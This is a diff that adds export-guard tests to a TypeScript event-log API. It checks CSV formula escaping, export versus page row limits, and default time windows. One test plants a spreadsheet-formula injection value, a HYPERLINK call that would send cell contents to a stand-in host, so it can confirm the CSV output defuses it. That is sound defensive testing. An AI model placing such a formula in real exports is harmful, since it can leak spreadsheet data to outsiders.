@@ -303,6 +303,38 @@ describe('export', () => {
   })
 })
 
+describe('export guards', () => {
+  it('a request id a spreadsheet would run as a formula is defused in CSV, kept as sent in JSON and NDJSON', async () => {
+    const token = await stack.gateway('kota-c', { kind: 'kota' })
+    const formula = '=HYPERLINK("http://x/?"&A1)'
+    await ingest(token, [record({ ...planted[1]!, requestId: formula }, 'svc-c')])
+    await stack.flushed()
+    const api = (await all('instansi=kota-c', 10)).rows
+    expect(api.map((r) => r.request_id)).toEqual([formula])
+    const csv = await exported('instansi=kota-c', 'text/csv')
+    const [header, line] = csv.bytes.subarray(3).toString('utf8').trimEnd().split('\n')
+    const names = csvLine(header!, ',')
+    expect(csvLine(line!, ',')[names.indexOf('request_id')]).toBe(`'${formula}`)
+    const nd = await exported('instansi=kota-c', 'application/x-ndjson')
+    expect(JSON.parse(nd.bytes.toString('utf8')).request_id).toBe(formula)
+  })
+
+  it('an export may ask for more rows than a page holds; a page may not', async () => {
+    const nd = await exported('instansi=kota-a&format=ndjson&limit=5000', '*/*')
+    expect(nd.bytes.toString('utf8').trimEnd().split('\n')).toHaveLength(120)
+    const page = await stack.call('GET', `/v1/events?${window}&limit=5000`)
+    expect(page.status).toBe(400)
+    expect(page.body.errors?.[0]?.field ?? page.body.field).toMatch(/limit/)
+  })
+
+  it('`to` alone is the hour before it', async () => {
+    const to = new Date(NOW - 3600e3).toISOString()
+    const r = await stack.call('GET', `/v1/events?to=${encodeURIComponent(to)}&limit=1`)
+    expect(r.status).toBe(200)
+    expect(r.body.meta.from).toBe(new Date(Date.parse(to) - 3600e3).toISOString())
+  })
+})
+
 describe('tenancy', () => {
   it('an operator sees, counts, charts and exports only its own instansi', async () => {
     const own = await all('', 50, operator)
